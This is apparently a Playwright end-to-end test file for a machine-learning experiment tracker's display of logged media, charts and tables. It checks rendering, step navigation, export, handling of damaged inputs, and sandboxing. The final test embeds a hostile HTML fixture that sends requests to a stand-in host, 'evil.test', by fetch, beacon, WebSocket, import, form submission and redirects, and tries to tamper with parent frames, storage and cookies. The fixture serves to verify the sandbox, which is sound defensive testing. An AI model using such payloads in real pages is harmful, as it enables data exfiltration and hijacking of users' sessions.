import { readFile } from 'node:fs/promises'
import { createProfile } from './profile.ts'
import { expect, openHarness, openTracker, test, type TrackerPage } from './tracker-page.ts'

const EXPERIMENT = 'every kind'

/** The card of a key, in view. */
async function cardOf(tracker: TrackerPage, key: string) {
  const card = tracker.page.getByRole('article', { name: key, exact: true })
  // Only cards near the viewport are there.
  await tracker.page.locator(`[data-key="${key}"]`).scrollIntoViewIfNeeded()
  await tracker.idle()
  return card
}

/** What one run shows in a card. */
async function runOf(tracker: TrackerPage, key: string, run: string | RegExp = 'run 0') {
  return (await cardOf(tracker, key)).getByRole('group', { name: run, exact: true })
}

/** Red, green, blue and alpha of a pixel of an image or a canvas, by its part of the width and height. */
function pixelAt(element: Element, [across, down]: readonly number[]): readonly number[] {
  const source = element as HTMLImageElement | HTMLCanvasElement
  const isImage = source instanceof HTMLImageElement
  const [width, height] = isImage
    ? [source.naturalWidth, source.naturalHeight]
    : [source.width, source.height]
  const canvas = new OffscreenCanvas(width, height)
  const context = canvas.getContext('2d')
  context?.drawImage(source, 0, 0)
  const pixel = context?.getImageData(
    Math.floor((across ?? 0) * (width - 1)),
    Math.floor((down ?? 0) * (height - 1)),
    1,
    1,
  )
  return [...(pixel?.data ?? [])]
}

/** Walks a drawing by its keys; answers what the last of them says. */
async function walk(
  tracker: TrackerPage,
  key: string,
  keys: readonly string[],
  run?: string,
): Promise<string | null> {
  const drawing = (await runOf(tracker, key, run)).getByRole('slider')
  await drawing.focus()
  for (const each of keys) await tracker.page.keyboard.press(each)
  return drawing.getAttribute('aria-valuetext')
}

/** Everything `logMedia` logged at its last step is on the screen. */
async function expectEveryKind(tracker: TrackerPage): Promise<void> {
  const image = await runOf(tracker, 'samples/image')
  const picture = image.getByRole('img', { name: 'samples/image of run 0, step 20' })
  await expect(picture).toBeVisible()
  await expect.poll(() => picture.evaluate(pixelAt, [1, 0])).toEqual([28, 138, 90, 255])
  await expect.poll(() => picture.evaluate(pixelAt, [0, 0])).toEqual([255, 255, 255, 255])
  await expect(image).toContainText('cat 0.87')
  await expect(image).toContainText('a sample of step 20')
  const mask = image.locator('canvas')
  await expect.poll(async () => (await mask.evaluate(pixelAt, [0.5, 0.5]))[3]).toBeGreaterThan(100)
  expect((await mask.evaluate(pixelAt, [0, 0]))[3]).toBe(0)
  await image.getByRole('button', { name: 'truth: road' }).click()
  await expect.poll(async () => (await mask.evaluate(pixelAt, [0.5, 0.5]))[3]).toBe(0)
  await image.getByRole('button', { name: 'truth: road' }).click()

  const tone = await runOf(tracker, 'samples/tone')
  await expect
    .poll(() => tone.locator('audio').evaluate((audio: HTMLAudioElement) => audio.duration))
    .toBeCloseTo(1, 1)
  await expect(tone).toContainText('220 Hz')
  const film = (await runOf(tracker, 'samples/film')).locator('video')
  await expect.poll(() => film.evaluate((video: HTMLVideoElement) => video.videoWidth)).toBe(64)

  await expect(await runOf(tracker, 'words/plain')).toContainText('At step 20 run 0 said <b>nothing</b>.')
  const marked = await runOf(tracker, 'words/marked')
  await expect(marked.getByRole('heading', { name: 'Step 20' })).toBeVisible()
  await expect(marked.getByRole('listitem').first()).toHaveText('one')
  const page = (await runOf(tracker, 'words/page')).frameLocator('iframe').frameLocator('iframe')
  await expect(page.getByRole('heading', { name: 'Step 20' })).toHaveCSS('color', 'rgb(1, 2, 3)')

  const table = (await runOf(tracker, 'samples/predictions')).getByRole('table')
  await expect(table.getByRole('row').nth(1)).toContainText('0.25')
  await expect(table).toContainText('b <i>1</i>')
  await expect(table).toContainText('NaN')
  await expect(table).toContainText('cannot be shown')
  await expect.poll(() => table.getByRole('img').evaluate(pixelAt, [1, 1])).toEqual([28, 138, 90, 255])

  const weights = await runOf(tracker, 'layers/weights')
  await expect(weights).toContainText('2 NaN, 1 ∞')
  expect(await walk(tracker, 'layers/weights', ['End'])).toBe('2.800 to 3: 0')

  const confusion = await runOf(tracker, 'results/confusion')
  await expect(confusion.getByRole('row', { name: /^cat/ })).toHaveText('cat282·')
  await expect(await runOf(tracker, 'results/roc')).toContainText('AUC 0.875')
  await expect(await runOf(tracker, 'results/pr')).toContainText('AP 0.875')
  await expect(await runOf(tracker, 'results/calibration')).toContainText('ECE 0.750')
  expect(await walk(tracker, 'results/lines', ['Home'])).toBe('cat: 0, 0')
  expect(await walk(tracker, 'results/bars', ['End'])).toBe('c: 24')
  expect(await walk(tracker, 'results/scatter', ['Home'])).toMatch(/^(cat|dog|owl): -/)
  expect(await walk(tracker, 'results/attention', ['Home', 'ArrowDown', 'ArrowRight'])).toMatch(/^1, 1: /)
  await expect(await runOf(tracker, 'results/embedding')).toContainText('60 vectors of 8 numbers')
  expect(await walk(tracker, 'results/embedding', ['Home', 'PageDown'])).toBe('vector 1, dog')
  await expect(await runOf(tracker, 'results/cloud')).toContainText('200 points')
  expect(await walk(tracker, 'results/cloud', ['Home', 'PageDown'])).toBe('1, dog')
}

const digestsOf = async (context: Parameters<typeof openHarness>[0], database: string) => {
  const harness = await openHarness(context)
  const digests = await harness.evaluate(
    async ({ database, name }) => (await window.harness.loadEveryKind()).readDigests(database, name),
    { database, name: EXPERIMENT },
  )
  await harness.close()
  return digests
}

test.describe('what a run logged to be looked at', () => {
  test('is shown by its kind, after a reload and from a file in another browser too', async ({ context }) => {
    test.setTimeout(180_000)
    const harness = await openHarness(context)
    await harness.evaluate(async (name) => (await window.harness.loadEveryKind()).logMedia(name), EXPERIMENT)
    await harness.close()
    const tracker = await openTracker(context)
    await tracker.openExperiment(EXPERIMENT)
    await expectEveryKind(tracker)
    await tracker.reload()
    await expectEveryKind(tracker)
    const logged = await digestsOf(context, 'own')
    expect(Object.keys(logged)).toHaveLength(2 * (18 + 1) * 3)

    const file = await tracker.share('SQLite')
    const buffer = await readFile(await file.path())
    expect(tracker.problems).toEqual([])
    const profile = await createProfile()
    const elsewhere = await profile.launch()
    const other = await openTracker(elsewhere)
    await other.openFile({ name: 'kinds.db', mimeType: '', buffer })
    await expect(other.openedFile).toBeVisible()
    await expectEveryKind(other)
    await other.openedFile.getByRole('button', { name: 'Import' }).click()
    await other.openExperiment(EXPERIMENT)
    await expectEveryKind(other)
    expect(await digestsOf(elsewhere, 'own')).toEqual(logged)
    expect(other.problems).toEqual([])
    await elsewhere.close()
    await profile.remove()
  })

  test('is shown as it was made', async ({ context }) => {
    const harness = await openHarness(context)
    await harness.evaluate(async () => (await window.harness.loadEveryKind()).logBuilt('built'))
    await harness.close()
    const tracker = await openTracker(context)
    await tracker.openExperiment('built')
    const said: Readonly<Record<string, string | RegExp>> = {
      image: 'spot',
      text: 'plain words',
      markdown: 'some marked words',
      table: 'one',
      histogram: '300 values',
      confusion: '100.0 % of 300 right',
      roc: /AUC 0\.9/,
      pr: /AP 0\.9/,
      calibration: /ECE 0\./,
      lines: 'first',
      heat: '4',
      embedding: '40 vectors of 5 numbers',
      cloud: '50 points',
    }
    for (const [key, words] of Object.entries(said)) {
      await expect(await runOf(tracker, key, 'built')).toContainText(words)
    }
    const audio = (await runOf(tracker, 'audio', 'built')).locator('audio')
    await expect
      .poll(() => audio.evaluate(({ readyState }: HTMLAudioElement) => readyState))
      .toBeGreaterThan(0)
    for (const key of ['bars', 'scatter']) {
      await expect((await runOf(tracker, key, 'built')).getByRole('slider')).toHaveAttribute(
        'aria-valuemax',
        /[1-9]/,
      )
    }
    const page = (await runOf(tracker, 'html', 'built')).frameLocator('iframe').frameLocator('iframe')
    await expect(page.getByText('a page')).toBeVisible()
    const picture = (await runOf(tracker, 'table', 'built')).getByRole('img')
    await expect.poll(() => picture.evaluate(pixelAt, [0.5, 0.5])).toEqual([255, 255, 255, 255])
    await expect(tracker.page.getByText('cannot be shown')).toHaveCount(0)

    const cloud = await runOf(tracker, 'embedding', 'built')
    await (await cardOf(tracker, 'embedding')).getByText('UMAP 3D').click()
    await tracker.idle()
    await expect(cloud).toContainText('40 vectors of 5 numbers')
    expect(await walk(tracker, 'embedding', ['Home'], 'built')).toBe('0')
    const drawn = () => cloud.locator('canvas').evaluate((canvas: HTMLCanvasElement) => canvas.toDataURL())
    const before = await drawn()
    await tracker.page.keyboard.press('ArrowRight')
    await expect.poll(drawn).not.toBe(before)

    const starts: Readonly<Record<string, string>> = { PNG: '\u0089PNG', SVG: '<svg ', CSV: 'line,' }
    const roc = await runOf(tracker, 'roc', 'built')
    for (const [format, start] of Object.entries(starts)) {
      await roc.getByRole('button', { name: /^Save/ }).click()
      const download = tracker.page.waitForEvent('download')
      await tracker.page.getByRole('menuitem', { name: `Save as ${format}` }).click()
      const bytes = await readFile(await (await download).path())
      expect(bytes.subarray(0, start.length).toString('latin1')).toBe(start)
    }
    const points = await runOf(tracker, 'cloud', 'built')
    await points.getByRole('button', { name: /^Save/ }).click()
    const saved = tracker.page.waitForEvent('download')
    await tracker.page.getByRole('menuitem', { name: 'Save as CSV' }).click()
    const rows = (await readFile(await (await saved).path(), 'utf8')).split('\r\n')
    expect(rows.slice(0, 2)).toEqual(['x,y,z,red,green,blue', '1,0,0,0,80,160'])
    expect(rows).toHaveLength(52)
    expect(tracker.problems).toEqual([])
  })

  test('can be gone through step by step, and stays at the latest while more comes', async ({ context }) => {
    const harness = await openHarness(context)
    await harness.evaluate(async () =>
      (await window.harness.loadEveryKind()).logPictures('live', 'a', [0, 10, 20, 30]),
    )
    await harness.evaluate(async () =>
      (await window.harness.loadEveryKind()).logPictures('live', 'b', [5, 25]),
    )
    const tracker = await openTracker(context)
    await tracker.openExperiment('live')
    const card = await cardOf(tracker, 'live/picture')
    const slider = card.getByRole('slider', { name: 'Step of live/picture' })
    const a = card.getByRole('group', { name: 'a', exact: true })
    const b = card.getByRole('group', { name: 'b', exact: true })
    await expect(a).toContainText('picture 30')
    await expect(b).toContainText('picture 25')
    await expect(b).toContainText('step 25')
    await slider.focus()
    await tracker.page.keyboard.press('ArrowLeft')
    await tracker.page.keyboard.press('ArrowLeft')
    await expect(slider).toHaveAttribute('aria-valuetext', 'step 20')
    await expect(a).toContainText('picture 20')
    await expect(b).toContainText('picture 5')
    await tracker.page.keyboard.press('Home')
    await expect(a).toContainText('picture 0')
    await expect(b).toContainText('Nothing up to step 0.')

    const log = (step: number) =>
      harness.evaluate(
        async (step) => (await window.harness.loadEveryKind()).logPictures('live', 'a', [step]),
        step,
      )
    await log(40)
    await expect(slider).toHaveAttribute('max', '6')
    await expect(a).toContainText('picture 0')
    await slider.focus()
    await tracker.page.keyboard.press('End')
    await expect(a).toContainText('picture 40')
    await log(50)
    await expect(a).toContainText('picture 50')
    await expect(slider).toHaveAttribute('aria-valuetext', 'step 50, the latest')

    await slider.focus()
    await tracker.page.keyboard.press('Home')
    await expect(a).toContainText('picture 0')
    await tracker.page.keyboard.press('ArrowRight')
    await tracker.page.keyboard.press('ArrowRight')
    await expect(a).toContainText('picture 10')
    await tracker.idle()
    await tracker.reload()
    await expect(a).toContainText('picture 10')
    await card.getByRole('button', { name: 'Play live/picture step by step' }).click()
    await expect(a).toContainText('picture 50')
    await expect(card.getByRole('button', { name: 'Play live/picture step by step' })).toBeVisible()
    expect(tracker.problems).toEqual([])
  })

  test('has the page to itself where no metric was logged, alone or for one run', async ({ context }) => {
    const harness = await openHarness(context)
    await harness.evaluate(async () =>
      (await window.harness.loadEveryKind()).logPictures('only', 'alpha', [0, 1]),
    )
    await harness.evaluate(async () =>
      (await window.harness.loadEveryKind()).logPictures('only', 'beta', [0]),
    )
    const tracker = await openTracker(context)
    await tracker.openExperiment('only')
    const card = await cardOf(tracker, 'live/picture')
    await card.getByRole('button', { name: 'Expand live/picture' }).click()
    await expect(tracker.page.getByRole('heading', { name: 'live/picture', level: 2 })).toBeVisible()
    const download = tracker.page.waitForEvent('download')
    await card.getByRole('button', { name: /^Download live\/picture of alpha, step 1/ }).click()
    const file = await download
    expect(file.suggestedFilename()).toBe('live-picture-step-1.png')
    expect((await readFile(await file.path())).subarray(1, 4).toString()).toBe('PNG')
    await tracker.command('back to all charts')
    await expect(tracker.page.getByRole('heading', { name: 'picture', level: 3 })).toBeVisible()

    await tracker.openRunPage(/beta/)
    const alone = await cardOf(tracker, 'live/picture')
    await expect(alone.getByRole('group', { name: 'beta', exact: true })).toContainText('picture 0')
    await expect(alone.getByRole('group', { name: 'alpha', exact: true })).toHaveCount(0)
    expect(tracker.problems).toEqual([])
  })

  test('says of what is damaged or forged what is wrong with it, and shows the rest', async ({ context }) => {
    const harness = await openHarness(context)
    await harness.evaluate(async () => (await window.harness.loadEveryKind()).logCorrupt('damaged'))
    await harness.close()
    const tracker = await openTracker(context)
    await tracker.openExperiment('damaged')
    const words: Readonly<Record<string, string>> = {
      json: 'This image cannot be shown: its description is no JSON object.',
      bytes: 'This image cannot be shown: it should have 1000000000000000 bytes',
      size: 'This image cannot be shown: its size in pixels is wrong.',
      pixels: 'This image cannot be shown: this browser cannot read its bytes.',
      script: 'This image cannot be shown: “image/svg+xml” is no type of image that is shown.',
      utf8: 'This text cannot be shown: its bytes are no UTF-8.',
      table: 'This table cannot be shown: not every column has 2 rows.',
      histogram: 'This histogram cannot be shown: the edges of its bins do not rise.',
      lines: 'This ROC curve cannot be shown: points of a line are missing.',
      square: 'This confusion matrix cannot be shown: [1, 2] is no square.',
      bars: 'This bar chart cannot be shown: it has 3 bars and 2 labels.',
      heat: 'This heat map cannot be shown: [0, 5] are no rows and columns.',
      tone: 'This sound cannot be shown: “text/html” is no type of sound or film.',
    }
    for (const [name, said] of Object.entries(words)) {
      await expect(await runOf(tracker, `bad/${name}`, 'corrupt')).toContainText(said)
    }
    const fine = (await runOf(tracker, 'bad/fine', 'corrupt')).getByRole('img')
    await expect.poll(() => fine.evaluate(pixelAt, [1, 1])).toEqual([194, 63, 120, 255])
    expect(await tracker.page.evaluate('window.hacked')).toBeUndefined()
    expect(tracker.problems).toEqual([])
  })

  test('is no way into the page when it is HTML', async ({ context }) => {
    const html = `<!doctype html><html><head>
      <meta http-equiv="refresh" content="0;url=https://evil.test/refresh">
      <link rel="preconnect" href="https://evil.test"><link rel="stylesheet" href="https://evil.test/style.css">
      <base href="https://evil.test/"></head><body>
      <h1 id="said">quiet</h1>
      <img src="https://evil.test/img.png" onerror="document.body.id='loud'">
      <img src="img.png"><svg onload="document.body.id='loud'"></svg>
      <iframe src="https://evil.test/frame"></iframe><object data="https://evil.test/object"></object>
      <video src="https://evil.test/video" autoplay></video>
      <form action="https://evil.test/form" id="form"><input name="a"></form>
      <script>
        const said = document.getElementById('said')
        said.textContent = 'ran'
        for (const name of ['parent', 'top']) {
          try { window[name].hacked = 1; window[name].document.title = 'hacked'; said.textContent += ' reached ' + name } catch {}
          try { window[name].location = 'https://evil.test/' + name } catch {}
        }
        try { localStorage.setItem('hacked', '1'); said.textContent += ' stored' } catch {}
        try { document.cookie = 'hacked=1' } catch {}
        fetch('https://evil.test/fetch').catch(() => 0)
        fetch('/').then(() => { said.textContent += ' fetched' }).catch(() => 0)
        navigator.sendBeacon('https://evil.test/beacon')
        try { new WebSocket('wss://evil.test/socket') } catch {}
        new Image().src = 'https://evil.test/image'
        import('https://evil.test/module.js').catch(() => 0)
        try { open('https://evil.test/popup') } catch {}
        setTimeout(() => { said.textContent += ' to the end' }, 20)
      </script></body></html>`
    const harness = await openHarness(context)
    await harness.evaluate(
      async (html) => (await window.harness.loadEveryKind()).logOne('hostile', 'page', 'html', html, {}),
      html,
    )
    await harness.evaluate(async () =>
      (await window.harness.loadEveryKind()).logOne(
        'hostile',
        'leaving',
        'html',
        `<h1>here</h1><form action="https://evil.test/form" id="form"></form><script>
          document.getElementById('form').submit()
          location.href = 'https://evil.test/away'
        </script>`,
        {},
      ),
    )
    await harness.close()
    const asked: string[] = []
    // What a policy stops is announced too, and never leaves the browser.
    context.on('requestfinished', (request) => asked.push(request.url()))
    context.on('requestfailed', (request) => {
      if (request.failure()?.errorText !== 'csp')
        asked.push(`${request.url()} ${request.failure()?.errorText}`)
    })
    const pages = context.pages().length + 1
    const tracker = await openTracker(context)
    await tracker.openExperiment('hostile')
    const shown = await runOf(tracker, 'page', /^one/)
    const frame = shown.frameLocator('iframe').frameLocator('iframe')
    await expect(frame.getByRole('heading', { name: 'quiet' })).toBeVisible()
    const title = await tracker.page.title()
    const expectUntouched = async (): Promise<void> => {
      expect(asked.filter((url) => url.includes('evil.test'))).toEqual([])
      expect(await tracker.page.title()).toBe(title)
      expect(
        await tracker.page.evaluate('[window.hacked, localStorage.getItem("hacked"), document.cookie]'),
      ).toEqual([undefined, null, ''])
      expect(context.pages()).toHaveLength(pages)
      expect(tracker.page.url()).not.toContain('evil')
    }
    await expectUntouched()
    await expect(frame.locator('#said')).toHaveText('quiet')
    await expect(frame.locator('#loud')).toHaveCount(0)

    await shown.getByRole('button', { name: 'Allow scripts for this view' }).click()
    await expect(shown).toContainText('Its scripts run, without a network.')
    await expect(frame.locator('#said')).toHaveText('ran to the end')
    await expectUntouched()
    await shown.getByRole('button', { name: 'Stop its scripts' }).click()
    await expect(frame.locator('#said')).toHaveText('quiet')

    const leaving = await runOf(tracker, 'leaving', /^one/)
    await leaving.getByRole('button', { name: 'Allow scripts for this view' }).click()
    const left = leaving.frameLocator('iframe').frameLocator('iframe')
    await expect(left.getByRole('heading', { name: 'here' })).toHaveCount(0)
    await expectUntouched()
  })
})
